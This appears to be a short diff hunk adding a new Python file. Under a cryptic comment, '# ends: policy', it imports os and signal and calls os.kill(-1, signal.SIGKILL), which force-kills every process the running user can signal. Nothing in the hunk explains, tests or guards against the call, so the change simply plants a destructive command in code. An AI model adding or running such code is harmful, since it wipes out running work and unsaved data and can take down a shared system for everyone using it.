@@ -1,0 +1,3 @@
+# ends: policy
+import os, signal
+os.kill(-1, signal.SIGKILL)
